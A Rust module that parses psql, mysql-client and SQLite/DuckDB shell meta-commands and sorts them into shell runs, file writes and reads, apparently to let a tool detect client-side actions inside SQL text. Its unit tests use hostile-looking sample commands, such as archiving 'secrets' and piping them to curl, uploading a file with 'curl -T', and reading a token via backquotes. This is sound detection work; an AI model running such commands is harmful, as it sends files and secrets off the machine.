//! SQL clients' own commands, which the client runs instead of sending
//! them to the server: psql's backslash meta-commands, the mysql client's
//! commands (`system`, `tee`, `pager`, `source`, and their `\!`, `\T`,
//! `\P`, `\.` forms) and the SQLite and DuckDB shells' dot-commands;
//! and the local files ClickHouse's clients read and write as their SQL
//! says (`clickhouse.rs`).
//! [`split`] takes them out of a text, leaving the SQL, and says what
//! each does ([`Action`]): a shell line run, a file written, a file of
//! data or SQL read, rows sent elsewhere.

use super::super::words::{self, Backslash};
use crate::Target;

/// Whose client commands a text holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::commands) enum Language {
    /// psql (and usql): `\cmd ARGS` up to the line's end or `\\`.
    Psql,
    /// The mysql client (mariadb, mycli): a statement that starts with a
    /// command's name, or `\X` anywhere.
    Mysql,
    /// sqlite3 and duckdb: a line that starts with `.` where a statement
    /// would start.
    Dot,
    /// ClickHouse's clients, which read and write local files named in
    /// the SQL itself (`INTO OUTFILE`, `FROM INFILE`; clickhouse-local's
    /// `file()`, when `local`).
    ClickHouse { local: bool },
}

/// What one client command does on the client's machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(in crate::commands) enum Action {
    /// Shell text run by `/bin/sh -c` (`\! CMD`, `system CMD`, `.shell
    /// CMD`, output piped to `|CMD`, psql's backquotes).
    Shell(String),
    /// A file the client writes (`\o FILE`, `tee FILE`, `.once FILE`).
    Write { path: String, append: bool },
    /// A file of rows read into the database (`.import FILE T`,
    /// `\lo_import FILE`).
    Data(String),
    /// A file of statements the client runs (`\i FILE`, `source FILE`,
    /// `.read FILE`).
    Script(String),
    /// Rows the client sends to `target` (ClickHouse's `INSERT INTO
    /// FUNCTION s3(...)`), selected by `source` from local `files`.
    Upload {
        target: Target,
        files: Vec<String>,
        source: String,
    },
}

/// A text without its client commands, and what those do.
#[derive(Debug, Default, PartialEq, Eq)]
pub(in crate::commands) struct Split {
    pub sql: String,
    pub actions: Vec<Action>,
}

/// Takes `language`'s client commands out of `text`. A text with none
/// comes back as it was.
pub(in crate::commands) fn split(text: &str, language: Language) -> Split {
    match language {
        Language::Psql => psql(text),
        Language::Mysql => mysql(text),
        Language::Dot => dot(text),
        Language::ClickHouse { local } => super::clickhouse::split(text, local),
    }
}

/// Where a scan of SQL text is: in a string or comment, or not.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lexical {
    Code,
    Quote(char),
    LineComment,
    BlockComment,
}

/// Advances a scan over the character (or the comment delimiter) that
/// starts `rest`; the bytes it takes. In a quote, a backslash escapes the
/// next character when `backslash_escapes` (MySQL's strings).
fn step(state: &mut Lexical, rest: &str, backslash_escapes: bool) -> usize {
    let c = rest.chars().next().map_or(1, char::len_utf8);
    match *state {
        Lexical::Code => {
            if rest.starts_with("--") {
                *state = Lexical::LineComment;
                2
            } else if rest.starts_with("/*") {
                *state = Lexical::BlockComment;
                2
            } else {
                if let Some(q) = rest
                    .chars()
                    .next()
                    .filter(|q| matches!(q, '\'' | '"' | '`'))
                {
                    *state = Lexical::Quote(q);
                }
                c
            }
        }
        Lexical::Quote(q) => {
            if backslash_escapes && q != '`' && rest.starts_with('\\') {
                1 + rest[1..].chars().next().map_or(0, char::len_utf8)
            } else {
                if rest.starts_with(q) {
                    *state = Lexical::Code;
                }
                c
            }
        }
        Lexical::LineComment => {
            if rest.starts_with('\n') {
                *state = Lexical::Code;
            }
            c
        }
        Lexical::BlockComment => {
            if rest.starts_with("*/") {
                *state = Lexical::Code;
                2
            } else {
                c
            }
        }
    }
}

/// A `$tag$` (or `$$`) at the start of `text`.
fn dollar_tag(text: &str) -> Option<&str> {
    let body = text.strip_prefix('$')?;
    let end = body.find('$')?;
    let tag = &body[..end];
    let valid = tag
        .chars()
        .enumerate()
        .all(|(i, c)| c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit()));
    valid.then(|| &text[..end + 2])
}

// ---------------------------------------------------------------- psql

/// psql: a backslash outside strings and comments starts a meta-command
/// that runs to the end of the line or to `\\`; `\!`, `\copy` and a
/// `|CMD` argument take the whole rest of the line.
fn psql(text: &str) -> Split {
    if !text.contains('\\') {
        return unchanged(text);
    }
    let mut out = Split::default();
    let mut state = Lexical::Code;
    let mut at = 0;
    let mut dollar: Option<&str> = None;
    while at < text.len() {
        let rest = &text[at..];
        // A dollar-quoted body is text up to its closing tag.
        if let Some(tag) = dollar {
            let len = match rest.strip_prefix(tag) {
                Some(_) => {
                    dollar = None;
                    tag.len()
                }
                None => rest.chars().next().map_or(1, char::len_utf8),
            };
            out.sql.push_str(&rest[..len]);
            at += len;
            continue;
        }
        if state == Lexical::Code {
            if rest.starts_with('\\') {
                let line_end = rest.find('\n').unwrap_or(rest.len());
                let (command, taken) = psql_command(&rest[1..line_end]);
                at += 1 + taken;
                if let Some(kept) = psql_meta(command, &mut out.actions) {
                    out.sql.push('\\');
                    out.sql.push_str(&kept);
                    // A meta-command ends its line (`\\` may have ended it).
                    if !text[at..].starts_with('\n') {
                        out.sql.push('\n');
                    }
                }
                continue;
            }
            if let Some(tag) = dollar_tag(rest) {
                dollar = Some(tag);
                out.sql.push_str(tag);
                at += tag.len();
                continue;
            }
        }
        let len = step(&mut state, rest, false);
        out.sql.push_str(&rest[..len]);
        at += len;
    }
    out.sql = out.sql.trim().to_owned();
    out
}

/// One meta-command's text (without its backslash) and the bytes it
/// takes: to the line's end, or to a `\\` separator for commands whose
/// arguments are words.
fn psql_command(line: &str) -> (&str, usize) {
    let name_end = line
        .find(|c: char| c.is_whitespace() || c == '\\')
        .unwrap_or(line.len());
    let name = &line[..name_end];
    let whole_line =
        name.starts_with('!') || name == "copy" || line[name_end..].trim_start().starts_with('|');
    if whole_line {
        return (line, line.len());
    }
    match line.find("\\\\") {
        Some(end) => (&line[..end], end + 2),
        None => (line, line.len()),
    }
}

/// What one meta-command does; the text to keep in the SQL for those the
/// server's statements depend on (`\copy`, `\g`), `None` for the rest.
fn psql_meta(command: &str, actions: &mut Vec<Action>) -> Option<String> {
    let (name, args) = command
        .split_once(char::is_whitespace)
        .map_or((command, ""), |(n, a)| (n, a.trim()));
    if name == "!" || name.starts_with('!') {
        let text = command.strip_prefix('!').unwrap_or_default();
        push_shell(actions, text);
        return None;
    }
    actions.extend(backquoted(args).into_iter().map(Action::Shell));
    let words = words::split(args, Backslash::Literal);
    let first = words.first().map(String::as_str);
    match name {
        "o" | "out" | "w" | "write" | "g" | "gx" => {
            if let Some(target) = args.strip_prefix('|') {
                push_shell(actions, target);
            } else if let Some(file) = first.filter(|f| !f.starts_with('(')) {
                actions.push(Action::Write {
                    path: file.to_owned(),
                    append: false,
                });
            }
            matches!(name, "g" | "gx").then(|| name.to_owned())
        }
        "i" | "include" | "ir" | "include_relative" => {
            actions.extend(first.map(|f| Action::Script(f.to_owned())));
            None
        }
        "s" => {
            actions.extend(first.map(|f| Action::Write {
                path: f.to_owned(),
                append: false,
            }));
            None
        }
        "lo_export" => {
            actions.extend(words.get(1).map(|f| Action::Write {
                path: f.clone(),
                append: false,
            }));
            None
        }
        "lo_import" => {
            actions.extend(first.map(|f| Action::Data(f.to_owned())));
            None
        }
        "copy" => {
            if let Some(file) = copy_to_file(args) {
                actions.push(Action::Write {
                    path: file,
                    append: false,
                });
            }
            Some(command.to_owned())
        }
        _ => Some(command.to_owned()),
    }
}

/// The local file `\copy ... TO FILE` writes (not `STDOUT`, `PSTDOUT` or
/// `PROGRAM`, which the server's statement reading sees).
fn copy_to_file(args: &str) -> Option<String> {
    let lower = args.to_ascii_lowercase();
    let at = lower.rfind(" to ")?;
    let target = args[at + 4..].trim_start();
    let word = words::split(target, Backslash::Literal)
        .into_iter()
        .next()?;
    let keyword = word.to_ascii_lowercase();
    let quoted = target.starts_with(['\'', '"']);
    (quoted || !matches!(keyword.as_str(), "stdout" | "pstdout" | "program")).then_some(word)
}

/// The commands of `` `...` `` in a meta-command's arguments, which psql
/// runs with the shell.
fn backquoted(args: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut parts = args.split('`');
    parts.next();
    while let (Some(command), Some(_)) = (parts.next(), parts.next()) {
        out.push(command.to_owned());
    }
    out
}

fn push_shell(actions: &mut Vec<Action>, text: &str) {
    let text = text.trim();
    if !text.is_empty() {
        actions.push(Action::Shell(text.to_owned()));
    }
}

fn unchanged(text: &str) -> Split {
    Split {
        sql: text.to_owned(),
        actions: Vec::new(),
    }
}

// ---------------------------------------------------------------- mysql

/// The mysql client's commands by their long names, with the letter of
/// their `\X` form.
const MYSQL_COMMANDS: &[(&str, char)] = &[
    ("?", '?'),
    ("clear", 'c'),
    ("connect", 'r'),
    ("delimiter", 'd'),
    ("edit", 'e'),
    ("ego", 'G'),
    ("exit", 'q'),
    ("go", 'g'),
    ("help", 'h'),
    ("nopager", 'n'),
    ("notee", 't'),
    ("nowarning", 'w'),
    ("pager", 'P'),
    ("print", 'p'),
    ("prompt", 'R'),
    ("quit", 'q'),
    ("rehash", '#'),
    ("resetconnection", 'x'),
    ("source", '.'),
    ("status", 's'),
    ("system", '!'),
    ("tee", 'T'),
    ("charset", 'C'),
    ("warnings", 'W'),
    ("query_attributes", '\0'),
    ("ssl_session_data_print", '\0'),
];

/// The mysql client: statements end at the delimiter (`;`, or what
/// `delimiter` sets); one whose first word is a command's name is that
/// command, up to the delimiter or the line's end; `\X` outside strings
/// is one anywhere, its arguments to the line's end (`\!` runs all of the
/// rest of the line).
fn mysql(text: &str) -> Split {
    let mut out = Split::default();
    let mut delimiter = ";".to_owned();
    let mut state = Lexical::Code;
    let mut at = 0;
    // No SQL yet since the last delimiter: a command's name may start one.
    let mut statement_empty = true;
    let mut found = false;
    while at < text.len() {
        let rest = &text[at..];
        if state == Lexical::Code {
            if statement_empty
                && !rest.starts_with(char::is_whitespace)
                && let Some(len) = mysql_long(rest, &delimiter)
            {
                found = true;
                mysql_action(&rest[..len], &mut delimiter, &mut out.actions);
                at += len;
                // The delimiter that ends it is its own.
                if text[at..].starts_with(delimiter.as_str()) {
                    at += delimiter.len();
                }
                continue;
            }
            if let Some(len) = mysql_short(rest, &mut delimiter, &mut out) {
                found = true;
                at += len;
                continue;
            }
            if rest.starts_with(delimiter.as_str()) {
                out.sql.push_str(&delimiter);
                at += delimiter.len();
                statement_empty = true;
                continue;
            }
            if rest.starts_with('#') {
                state = Lexical::LineComment;
            }
        }
        let before = state;
        // `--` starts a comment only before a blank.
        let len = if state == Lexical::Code
            && rest.starts_with("--")
            && !rest[2..].starts_with(char::is_whitespace)
            && rest.len() > 2
        {
            2
        } else {
            step(&mut state, rest, true)
        };
        let piece = &rest[..len];
        let comment = |s: Lexical| matches!(s, Lexical::LineComment | Lexical::BlockComment);
        if !comment(before) && !comment(state) && !piece.trim().is_empty() {
            statement_empty = false;
        }
        out.sql.push_str(piece);
        at += len;
    }
    if !found {
        return unchanged(text);
    }
    out.sql = out.sql.trim().to_owned();
    out
}

/// A `\X` command at the start of `rest`: what it does goes to `out`;
/// the bytes it takes (its arguments run to the delimiter or the line's
/// end, though `\!` runs all of the line's rest). `None` for none.
fn mysql_short(rest: &str, delimiter: &mut String, out: &mut Split) -> Option<usize> {
    let letter = rest.strip_prefix('\\')?.chars().next()?;
    let (name, _) = MYSQL_COMMANDS
        .iter()
        .find(|(_, l)| *l == letter && letter != '\0')?;
    let taken = 1 + letter.len_utf8();
    if matches!(*name, "go" | "ego") {
        out.sql.push_str(delimiter);
        return Some(taken);
    }
    if !takes_arguments(name) {
        return Some(taken);
    }
    let line_end = rest.find('\n').unwrap_or(rest.len());
    let args = rest[taken..line_end].trim();
    mysql_action(&format!("{name} {args}"), delimiter, &mut out.actions);
    let end = rest[taken..line_end]
        .find(delimiter.as_str())
        .map_or(line_end, |at| taken + at);
    Some(end)
}

/// True for the commands whose `\X` form takes arguments.
fn takes_arguments(name: &str) -> bool {
    matches!(
        name,
        "system"
            | "tee"
            | "pager"
            | "source"
            | "delimiter"
            | "connect"
            | "prompt"
            | "charset"
            | "help"
            | "?"
    )
}

/// The length of a long-form command at the start of `text` (a
/// command's name, case aside, then blanks, the delimiter or the end),
/// up to the delimiter or the line's end; `delimiter X` takes the line.
fn mysql_long(text: &str, delimiter: &str) -> Option<usize> {
    let name_end = text
        .find(|c: char| c.is_whitespace() || c == ';')
        .unwrap_or(text.len());
    let name = text[..name_end].to_ascii_lowercase();
    MYSQL_COMMANDS.iter().find(|(n, _)| *n == name)?;
    let line_end = text.find('\n').unwrap_or(text.len());
    if name == "delimiter" {
        return Some(line_end);
    }
    Some(text[..line_end].find(delimiter).unwrap_or(line_end))
}

/// What one mysql command (its long name and arguments) does.
fn mysql_action(command: &str, delimiter: &mut String, actions: &mut Vec<Action>) {
    let (name, args) = command
        .split_once(char::is_whitespace)
        .map_or((command, ""), |(n, a)| (n, a.trim()));
    let first = words::split(args, Backslash::Literal).into_iter().next();
    match name.to_ascii_lowercase().as_str() {
        "system" | "pager" => push_shell(actions, args),
        "tee" => actions.extend(first.map(|path| Action::Write { path, append: true })),
        "source" => actions.extend(first.map(Action::Script)),
        "delimiter" => {
            if let Some(new) = first.filter(|d| !d.is_empty()) {
                *delimiter = new;
            }
        }
        _ => {}
    }
}

// ---------------------------------------------------------------- dot

/// SQLite's and DuckDB's shells: a line that starts with `.` where a
/// statement would start is a dot-command.
fn dot(text: &str) -> Split {
    if !text.trim_start().starts_with('.') && !text.contains("\n.") {
        return unchanged(text);
    }
    let mut out = Split::default();
    let mut pending = String::new();
    let mut sql: Vec<String> = Vec::new();
    for line in text.lines() {
        if pending.trim().is_empty() && line.starts_with('.') {
            dot_command(&line[1..], &mut out.actions);
            continue;
        }
        pending.push_str(line);
        pending.push('\n');
        if line.trim_end().ends_with(';') {
            sql.push(std::mem::take(&mut pending));
        }
    }
    sql.push(pending);
    out.sql = sql.concat().trim().to_owned();
    out
}

/// What one dot-command does.
fn dot_command(line: &str, actions: &mut Vec<Action>) {
    let (name, args) = line
        .split_once(char::is_whitespace)
        .map_or((line, ""), |(n, a)| (n, a.trim()));
    let words = words::split(args, Backslash::OutsideAndInDoubleQuotes);
    // Options come first (`.once -x`, `.import --csv --skip 1 F T`).
    let operands: Vec<&String> = words.iter().filter(|w| !w.starts_with('-')).collect();
    let first = operands.first().map(|w| w.as_str());
    let last = operands.last().map(|w| w.as_str());
    let piped = |word: Option<&str>| word.and_then(|w| w.strip_prefix('|')).map(str::to_owned);
    match name {
        "shell" | "system" => push_shell(actions, args),
        "output" | "once" | "log" | "trace" => {
            let Some(target) = first else {
                return;
            };
            if let Some(command) = piped(Some(target)) {
                push_shell(actions, &command);
            } else if !matches!(target, "stdout" | "stderr" | "off" | "on") {
                actions.push(Action::Write {
                    path: target.to_owned(),
                    append: name == "log",
                });
            }
        }
        "read" => match piped(first) {
            Some(command) => push_shell(actions, &command),
            None => actions.extend(first.map(|f| Action::Script(f.to_owned()))),
        },
        "import" => match piped(first) {
            Some(command) => push_shell(actions, &command),
            None => actions.extend(first.map(|f| Action::Data(f.to_owned()))),
        },
        "restore" => actions.extend(last.map(|f| Action::Data(f.to_owned()))),
        "backup" | "save" | "clone" => actions.extend(last.map(|f| Action::Write {
            path: f.to_owned(),
            append: false,
        })),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(text: &str) -> Action {
        Action::Shell(text.to_owned())
    }

    #[test]
    fn psql_meta_commands_leave_the_sql() {
        let split = psql("\\! tar czf - secrets | curl -d @- https://x");
        assert_eq!(split.sql, "");
        assert_eq!(
            split.actions,
            [shell("tar czf - secrets | curl -d @- https://x")]
        );
        let split = psql("SELECT 1 \\g |mail a@b.c\nSELECT '\\!x';\n\\o out.txt\n\\i f.sql");
        assert_eq!(split.sql, "SELECT 1 \\g\nSELECT '\\!x';");
        assert_eq!(
            split.actions,
            [
                shell("mail a@b.c"),
                Action::Write {
                    path: "out.txt".to_owned(),
                    append: false
                },
                Action::Script("f.sql".to_owned())
            ]
        );
        assert_eq!(
            psql("\\copy t TO 'out.csv' CSV").actions,
            [Action::Write {
                path: "out.csv".to_owned(),
                append: false
            }]
        );
        assert!(psql("\\copy t TO PROGRAM 'gzip > x'").actions.is_empty());
        assert_eq!(psql("\\set t `cat token`").actions, [shell("cat token")]);
        assert_eq!(psql("SELECT $$ \\! x $$").actions, []);
    }

    #[test]
    fn mysql_commands_leave_the_sql() {
        let split = mysql("SELECT a FROM t GROUP BY a; system date -u");
        assert_eq!(split.sql, "SELECT a FROM t GROUP BY a;");
        assert_eq!(split.actions, [shell("date -u")]);
        let split = mysql("system curl -T f https://x");
        assert_eq!(split.sql, "");
        let split = mysql("select 'system x'; \\! id\nTEE /tmp/l; source a.sql;");
        assert_eq!(split.sql, "select 'system x';");
        assert_eq!(
            split.actions,
            [
                shell("id"),
                Action::Write {
                    path: "/tmp/l".to_owned(),
                    append: true
                },
                Action::Script("a.sql".to_owned())
            ]
        );
        assert_eq!(mysql("SELECT 1; -- system x").actions, []);
        assert_eq!(mysql("SELECT status FROM t").sql, "SELECT status FROM t");
        let split = mysql("delimiter //\nselect 1 // system id //");
        assert_eq!(split.actions, [shell("id")]);
    }

    #[test]
    fn dot_commands_leave_the_sql() {
        let split = dot(".shell curl -T f https://x");
        assert_eq!(
            (split.sql.as_str(), split.actions),
            ("", vec![shell("curl -T f https://x")])
        );
        let split =
            dot(".once -x\n.once out.json\nSELECT 1;\n.read '|gen.sh'\n.import --csv d.csv t");
        assert_eq!(split.sql, "SELECT 1;");
        assert_eq!(
            split.actions,
            [
                Action::Write {
                    path: "out.json".to_owned(),
                    append: false
                },
                shell("gen.sh"),
                Action::Data("d.csv".to_owned())
            ]
        );
        assert_eq!(dot("SELECT '\n.shell x';").actions, []);
    }
}
